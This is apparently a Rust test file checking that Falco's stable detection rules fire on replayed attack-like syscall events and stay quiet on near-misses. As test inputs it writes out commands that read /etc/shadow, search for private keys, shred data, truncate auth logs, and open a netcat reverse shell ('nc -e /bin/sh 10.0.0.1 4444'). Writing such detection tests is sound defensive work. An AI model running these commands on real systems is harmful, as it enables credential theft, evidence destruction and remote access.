//! Falco's stable rules against replayed events shaped like real attacks, and near-misses that
//! must stay quiet. The alert JSON is checked field by field.

use std::sync::OnceLock;

use peregrine_engine::replay::JsonEvent;
use peregrine_engine::{Alert, Matching, RulesLoader, Ruleset};
use serde_json::{json, Map, Value};

fn stable() -> &'static Ruleset {
    static RULES: OnceLock<Ruleset> = OnceLock::new();
    RULES.get_or_init(|| {
        let mut loader = RulesLoader::new();
        loader.add_file(
            &std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
                .join("../../tests/data/falco-rules/falco_rules.yaml"),
        );
        let mut result = loader.load();
        assert!(!result.has_errors(), "{}", result.render().join("\n"));
        result.ruleset.matching = Matching::All;
        result.ruleset
    })
}

/// A root shell session on a host, over ssh: the context most events below happen in.
fn host_process() -> Map<String, Value> {
    json!({
        "evt.time": 1781256190123456789u64,
        "evt.num": 42,
        "evt.res": "SUCCESS",
        "proc.pid": 4242,
        "proc.tty": 34816,
        "proc.pname": "bash",
        "proc.pcmdline": "bash",
        "proc.pexe": "/bin/bash",
        "proc.pexepath": "/usr/bin/bash",
        "proc.aname[2]": "sshd",
        "proc.aname[3]": "sshd",
        "proc.aname[4]": "systemd",
        "proc.cwd": "/root/",
        "proc.sname": "bash",
        "user.name": "root",
        "user.uid": 0,
        "user.loginuid": 0,
        "user.loginname": "root",
        "group.gid": 0,
        "group.name": "root",
        "container.id": "host",
        "container.name": "host",
    })
    .as_object()
    .cloned()
    .unwrap()
}

/// A shell inside a container started by a runtime, with a terminal attached.
fn container_process() -> Map<String, Value> {
    let mut e = host_process();
    for (k, v) in [
        ("container.id", json!("3ad7b26ded6d")),
        ("container.name", json!("web")),
        (
            "container.image.repository",
            json!("docker.io/library/nginx"),
        ),
        ("container.image.tag", json!("1.27")),
        ("k8s.pod.name", json!("web-0")),
        ("k8s.ns.name", json!("default")),
        ("proc.pname", json!("runc")),
        ("proc.aname[2]", json!("containerd-shim")),
        ("proc.vpid", json!(1)),
    ] {
        e.insert(k.to_string(), v);
    }
    e
}

fn exec(mut base: Map<String, Value>, name: &str, exepath: &str, args: &str) -> Map<String, Value> {
    base.insert("evt.type".into(), json!("execve"));
    base.insert("proc.name".into(), json!(name));
    base.insert("proc.exe".into(), json!(exepath));
    base.insert("proc.exepath".into(), json!(exepath));
    base.insert("proc.args".into(), json!(args));
    base.insert(
        "proc.cmdline".into(),
        json!(if args.is_empty() {
            name.to_string()
        } else {
            format!("{name} {args}")
        }),
    );
    base.insert("evt.arg.flags".into(), json!("EXE_LOWER_LAYER"));
    base
}

fn open(
    mut base: Map<String, Value>,
    proc_name: &str,
    path: &str,
    flags: &str,
) -> Map<String, Value> {
    let (dir, file) = path.rsplit_once('/').unwrap();
    base.insert("evt.type".into(), json!("openat"));
    base.insert("proc.name".into(), json!(proc_name));
    base.insert("proc.exe".into(), json!(proc_name));
    base.insert(
        "proc.exepath".into(),
        json!(format!("/usr/bin/{proc_name}")),
    );
    base.insert("proc.cmdline".into(), json!(format!("{proc_name} {path}")));
    base.insert("proc.args".into(), json!(path));
    base.insert("fd.name".into(), json!(path));
    base.insert(
        "fd.directory".into(),
        json!(if dir.is_empty() { "/" } else { dir }),
    );
    base.insert("fd.filename".into(), json!(file));
    base.insert("fd.typechar".into(), json!("f"));
    base.insert("fd.num".into(), json!(3));
    base.insert("evt.arg.flags".into(), json!(flags));
    base.insert(
        "evt.is_open_read".into(),
        json!(flags.contains("O_RDONLY") || flags.contains("O_RDWR")),
    );
    base.insert(
        "evt.is_open_write".into(),
        json!(flags.contains("O_WRONLY") || flags.contains("O_RDWR")),
    );
    base
}

fn with(mut e: Map<String, Value>, pairs: &[(&str, Value)]) -> Map<String, Value> {
    for (k, v) in pairs {
        e.insert(k.to_string(), v.clone());
    }
    e
}

fn alerts(event: Map<String, Value>) -> Vec<Alert> {
    let event = JsonEvent::from_map(event.into_iter().collect()).unwrap();
    let mut matched = Vec::new();
    stable().evaluate(&event, &mut matched);
    matched.iter().map(|r| r.alert(&event, "node-1")).collect()
}

fn fired(event: Map<String, Value>) -> Vec<String> {
    alerts(event).into_iter().map(|a| a.rule).collect()
}

#[test]
fn reading_shadow_fires_read_sensitive_file_untrusted_with_falcos_alert() {
    let got = alerts(open(host_process(), "cat", "/etc/shadow", "O_RDONLY"));
    assert_eq!(got.len(), 1, "{got:#?}");
    let a = &got[0];
    assert_eq!(a.rule, "Read sensitive file untrusted");
    assert_eq!(a.priority.as_str(), "Warning");
    assert_eq!(a.source, "syscall");
    assert_eq!(a.hostname.as_deref(), Some("node-1"));
    assert_eq!(a.time.to_string(), "2026-06-12T09:23:10.123456789Z");
    assert_eq!(
        a.tags,
        vec![
            "T1555",
            "container",
            "filesystem",
            "host",
            "maturity_stable",
            "mitre_credential_access"
        ]
    );
    let f = &a.output_fields;
    assert_eq!(f["fd.name"], "/etc/shadow");
    assert_eq!(f["proc.name"], "cat");
    assert_eq!(f["proc.cmdline"], "cat /etc/shadow");
    assert_eq!(f["proc.pname"], "bash");
    assert_eq!(f["proc.aname[2]"], "sshd");
    assert_eq!(f["proc.aname[3]"], "sshd");
    assert_eq!(f["user.name"], "root");
    assert_eq!(f["user.uid"], 0);
    assert_eq!(f["proc.tty"], 34816);
    assert_eq!(f["evt.type"], "openat");
    assert_eq!(f["evt.time"], 1781256190123456789u64);
    assert_eq!(f["container.id"], "host");
    assert!(f["container.image.repository"].is_null());
    assert!(f["k8s.pod.name"].is_null());
    assert!(a.output.starts_with("09:23:10.123456789: Warning Sensitive file opened for reading by non-trusted program | file=/etc/shadow gparent=sshd ggparent=sshd"), "{}", a.output);
    assert!(a.output.ends_with("container_id=host container_name=host container_image_repository=<NA> container_image_tag=<NA> k8s_pod_name=<NA> k8s_ns_name=<NA>"), "{}", a.output);
}

#[test]
fn reading_ordinary_files_or_trusted_readers_stay_quiet() {
    assert!(fired(open(host_process(), "cat", "/etc/hosts", "O_RDONLY")).is_empty());
    assert!(fired(open(
        host_process(),
        "cat",
        "/etc/shadow-backup/x",
        "O_RDONLY"
    ))
    .is_empty());
    // Writing is not reading.
    assert!(fired(with(
        open(host_process(), "cat", "/etc/shadow", "O_WRONLY"),
        &[("evt.is_open_read", json!(false))]
    ))
    .is_empty());
    // A failed open (no file descriptor) is not a read.
    assert!(fired(with(
        open(host_process(), "cat", "/etc/shadow", "O_RDONLY"),
        &[("fd.num", json!(-1))]
    ))
    .is_empty());
    // sshd reads /etc/shadow for a living.
    assert!(fired(open(host_process(), "sshd", "/etc/shadow", "O_RDONLY")).is_empty());
}

#[test]
fn grepping_for_private_keys() {
    let e = exec(
        host_process(),
        "grep",
        "/usr/bin/grep",
        "-r \"BEGIN RSA PRIVATE\" /home",
    );
    let got = alerts(e);
    assert_eq!(
        got.iter().map(|a| a.rule.as_str()).collect::<Vec<_>>(),
        vec!["Search Private Keys or Passwords"]
    );
    assert_eq!(
        got[0].output_fields["proc.cmdline"],
        "grep -r \"BEGIN RSA PRIVATE\" /home"
    );
    assert_eq!(got[0].output_fields["evt.arg.flags"], "EXE_LOWER_LAYER");
    assert!(fired(exec(
        host_process(),
        "find",
        "/usr/bin/find",
        "/ -name id_rsa"
    ))
    .contains(&"Search Private Keys or Passwords".to_string()));
    assert!(fired(exec(host_process(), "grep", "/usr/bin/grep", "-r TODO src")).is_empty());
}

#[test]
fn shredding_files_removes_bulk_data() {
    assert_eq!(
        fired(exec(
            host_process(),
            "shred",
            "/usr/bin/shred",
            "-u /var/lib/db"
        )),
        vec!["Remove Bulk Data from Disk"]
    );
    assert!(fired(exec(host_process(), "rm", "/usr/bin/rm", "-rf /tmp/build")).is_empty());
}

#[test]
fn a_symlink_over_shadow() {
    let e = with(
        host_process(),
        &[
            ("evt.type", json!("symlinkat")),
            ("proc.name", json!("ln")),
            ("proc.exepath", json!("/usr/bin/ln")),
            ("proc.cmdline", json!("ln -s /etc/shadow /tmp/x")),
            ("evt.arg.target", json!("/etc/shadow")),
            ("evt.arg.linkpath", json!("/tmp/x")),
        ],
    );
    let got = alerts(e.clone());
    assert_eq!(
        got.iter().map(|a| a.rule.as_str()).collect::<Vec<_>>(),
        vec!["Create Symlink Over Sensitive Files"]
    );
    assert_eq!(got[0].output_fields["evt.arg.target"], "/etc/shadow");
    assert_eq!(got[0].output_fields["evt.arg.linkpath"], "/tmp/x");
    assert!(fired(with(e, &[("evt.arg.target", json!("/tmp/notes"))])).is_empty());
}

#[test]
fn running_from_dev_shm() {
    assert_eq!(
        fired(exec(host_process(), "payload", "/dev/shm/payload", "")),
        vec!["Execution from /dev/shm"]
    );
    assert!(fired(exec(host_process(), "ls", "/usr/bin/ls", "/dev/shm")).is_empty());
}

#[test]
fn fileless_execution_via_memfd() {
    let e = with(
        exec(host_process(), "3", "memfd:payload", ""),
        &[("proc.is_exe_from_memfd", json!(true))],
    );
    let got = alerts(e);
    assert_eq!(
        got.iter().map(|a| a.rule.as_str()).collect::<Vec<_>>(),
        vec!["Fileless execution via memfd_create"]
    );
    assert_eq!(got[0].priority.as_str(), "Critical");
    // runc re-executes itself from a memfd on every container start: a known, allowed case.
    let runc = with(
        exec(
            host_process(),
            "runc",
            "memfd:runc_cloned:/proc/self/exe",
            "init",
        ),
        &[("proc.is_exe_from_memfd", json!(true))],
    );
    assert!(fired(runc).is_empty());
}

#[test]
fn ptrace_traceme_is_an_anti_debug_attempt() {
    let e = with(
        host_process(),
        &[
            ("evt.type", json!("ptrace")),
            ("proc.name", json!("malware")),
            ("proc.cmdline", json!("malware")),
            ("evt.arg.request", json!("PTRACE_TRACEME")),
        ],
    );
    assert_eq!(fired(e.clone()), vec!["PTRACE anti-debug attempt"]);
    assert!(
        !fired(with(e, &[("evt.arg.request", json!("PTRACE_PEEKUSR"))]))
            .contains(&"PTRACE anti-debug attempt".to_string())
    );
}

#[test]
fn truncating_a_log_clears_it() {
    let e = open(
        host_process(),
        "bash",
        "/var/log/auth.log",
        "O_WRONLY|O_CREAT|O_TRUNC",
    );
    let got = alerts(e);
    assert_eq!(
        got.iter().map(|a| a.rule.as_str()).collect::<Vec<_>>(),
        vec!["Clear Log Activities"]
    );
    assert_eq!(got[0].output_fields["fd.name"], "/var/log/auth.log");
    // Appending to a log is what logs are for.
    assert!(fired(open(
        host_process(),
        "rsyslogd",
        "/var/log/auth.log",
        "O_WRONLY|O_APPEND"
    ))
    .is_empty());
}

#[test]
fn a_terminal_shell_in_a_container() {
    let e = exec(container_process(), "bash", "/usr/bin/bash", "");
    let got = alerts(e.clone());
    assert!(
        got.iter().any(|a| a.rule == "Terminal shell in container"),
        "{:?}",
        got.iter().map(|a| &a.rule).collect::<Vec<_>>()
    );
    let a = got
        .iter()
        .find(|a| a.rule == "Terminal shell in container")
        .unwrap();
    assert_eq!(a.output_fields["container.id"], "3ad7b26ded6d");
    assert_eq!(
        a.output_fields["container.image.repository"],
        "docker.io/library/nginx"
    );
    assert_eq!(a.output_fields["k8s.ns.name"], "default");
    assert!(a.output.contains("container_id=3ad7b26ded6d container_name=web container_image_repository=docker.io/library/nginx container_image_tag=1.27 k8s_pod_name=web-0 k8s_ns_name=default"));
    // No terminal: not an interactive shell.
    assert!(!fired(with(e.clone(), &[("proc.tty", json!(0))]))
        .contains(&"Terminal shell in container".to_string()));
    // The same shell on the host is not "in a container".
    assert!(!fired(exec(host_process(), "bash", "/usr/bin/bash", ""))
        .contains(&"Terminal shell in container".to_string()));
}

#[test]
fn netcat_with_exec_in_a_container() {
    let e = exec(
        container_process(),
        "nc",
        "/usr/bin/nc",
        "-e /bin/sh 10.0.0.1 4444",
    );
    assert!(fired(e).contains(&"Netcat Remote Code Execution in Container".to_string()));
    assert!(!fired(exec(
        container_process(),
        "nc",
        "/usr/bin/nc",
        "-z 10.0.0.1 80"
    ))
    .contains(&"Netcat Remote Code Execution in Container".to_string()));
}

#[test]
fn benign_commands_raise_nothing() {
    for (name, path, args) in [
        ("ls", "/usr/bin/ls", "-la /tmp"),
        ("ps", "/usr/bin/ps", "aux"),
        ("git", "/usr/bin/git", "status"),
        ("cargo", "/root/.cargo/bin/cargo", "build"),
        ("vim", "/usr/bin/vim", "notes.txt"),
    ] {
        let got = fired(exec(host_process(), name, path, args));
        assert!(got.is_empty(), "{name} {args} fired {got:?}");
    }
    for path in [
        "/tmp/build.log",
        "/home/user/notes.txt",
        "/usr/lib/x86_64-linux-gnu/libc.so.6",
    ] {
        let got = fired(open(host_process(), "cat", path, "O_RDONLY"));
        assert!(got.is_empty(), "reading {path} fired {got:?}");
    }
}

#[test]
fn events_of_types_no_rule_needs_are_not_evaluated() {
    let e = with(
        host_process(),
        &[("evt.type", json!("getpid")), ("proc.name", json!("cat"))],
    );
    assert!(fired(e).is_empty());
    let getpid = peregrine_engine::event_types::index_of("getpid").unwrap();
    assert_eq!(stable().candidates(getpid), 0);
    let execve = peregrine_engine::event_types::index_of("execve").unwrap();
    assert_eq!(stable().candidates(execve), 11);
}
